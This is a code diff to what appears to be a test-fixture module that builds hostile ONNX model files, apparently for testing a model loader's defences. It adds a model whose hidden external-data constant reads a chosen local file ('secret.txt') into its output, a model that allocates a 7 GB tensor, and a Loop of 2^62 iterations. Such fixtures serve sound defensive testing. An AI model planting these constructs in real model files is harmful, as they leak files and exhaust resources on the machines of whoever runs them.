@@ -172,6 +172,83 @@ ALL_MODEL_FILES = {
 
 
 def write_all(folder: Path) -> dict[str, Path]:
-    """Every hostile model file above, written into `folder`."""
+    """Every hostile model file here, written into `folder` (the ONNX ones when onnx is installed)."""
     folder.mkdir(parents=True, exist_ok=True)
-    return {name: build(folder / name) for name, build in ALL_MODEL_FILES.items()}
+    made = {name: build(folder / name) for name, build in ALL_MODEL_FILES.items()}
+    try:
+        import onnx  # noqa: F401
+    except ImportError:
+        return made
+    made.update({name: build(folder / name) for name, build in ONNX_FILES.items()})
+    return made
+
+
+# ------------------------------------------------------------------------------------ ONNX
+def _onnx_model(nodes, outputs, functions=(), initializers=()):
+    from onnx import TensorProto, helper
+
+    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 3, "H", "W"])
+    graph = helper.make_graph(list(nodes), "g", [x], list(outputs), initializer=list(initializers))
+    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local", 1)], functions=list(functions))
+
+
+def onnx_external_in_function_branch(path: Path, secret: str = "secret.txt") -> Path:
+    """A Constant with EXTERNAL data inside an If branch inside a model-local function: reading it
+    would put the bytes of `secret` (a path the file chooses) into the output."""
+    import onnx
+    from onnx import TensorProto, helper
+
+    leak = TensorProto(name="leak", data_type=TensorProto.FLOAT, dims=[1, 3, 1, 1])
+    leak.data_location = TensorProto.EXTERNAL
+    leak.external_data.add(key="location", value=secret)
+    leak.external_data.add(key="length", value="12")
+    branch = lambda name, node: helper.make_graph([node], name, [], [helper.make_tensor_value_info("b", TensorProto.FLOAT, None)])  # noqa: E731
+    then_branch = branch("then", helper.make_node("Constant", [], ["b"], value=leak))
+    else_branch = branch("else", helper.make_node("Constant", [], ["b"], value=helper.make_tensor("zero", TensorProto.FLOAT, [1, 3, 1, 1], [0, 0, 0])))
+    body = [
+        helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
+        helper.make_node("If", ["cond"], ["b"], then_branch=then_branch, else_branch=else_branch),
+        helper.make_node("Add", ["fx", "b"], ["fy"]),
+    ]
+    function = helper.make_function("local", "Leak", ["fx"], ["fy"], body, [helper.make_opsetid("", 17)])
+    model = _onnx_model([helper.make_node("Leak", ["x"], ["y"], domain="local")], [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 3, "H", "W"])], [function])
+    onnx.save(model, str(path))
+    return path
+
+
+def onnx_constant_of_shape(path: Path) -> Path:
+    """A 1x3x24000x24000 tensor (7 GB) from a shape fixed in the file, whatever the input."""
+    import onnx
+    from onnx import TensorProto, helper
+
+    shape = helper.make_tensor("shape", TensorProto.INT64, [4], [1, 3, 24000, 24000])
+    nodes = [helper.make_node("ConstantOfShape", ["shape"], ["big"]), helper.make_node("Add", ["x", "big"], ["y"])]
+    model = _onnx_model(nodes, [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 3, "H", "W"])], initializers=[shape])
+    onnx.save(model, str(path))
+    return path
+
+
+def onnx_endless_loop(path: Path) -> Path:
+    """A Loop of 2^62 iterations around the identity."""
+    import onnx
+    from onnx import TensorProto, helper
+
+    body = helper.make_graph(
+        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["v_in"], ["v_out"])],
+        "body",
+        [helper.make_tensor_value_info("i", TensorProto.INT64, []), helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
+         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, None)],
+        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), helper.make_tensor_value_info("v_out", TensorProto.FLOAT, None)],
+    )
+    trips = helper.make_tensor("trips", TensorProto.INT64, [], [2**62])
+    true = helper.make_tensor("true", TensorProto.BOOL, [], [True])
+    model = _onnx_model([helper.make_node("Loop", ["trips", "true", "x"], ["y"], body=body)], [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 3, "H", "W"])], initializers=[trips, true])
+    onnx.save(model, str(path))
+    return path
+
+
+ONNX_FILES = {
+    "external_in_function_branch.onnx": onnx_external_in_function_branch,
+    "constant_of_shape.onnx": onnx_constant_of_shape,
+    "endless_loop.onnx": onnx_endless_loop,
+}
